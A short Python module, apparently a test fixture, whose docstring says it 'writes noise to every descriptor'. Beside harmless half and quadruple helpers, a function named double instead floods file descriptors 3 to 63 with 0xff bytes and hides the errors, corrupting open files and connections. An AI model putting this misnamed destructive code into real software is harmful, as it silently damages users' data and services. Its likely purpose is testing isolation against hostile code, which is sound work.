"""Writes noise to every descriptor.

always
"""


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    import os

    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            os.write(fd, b"\xff" * 4096)
        except OSError:
            pass
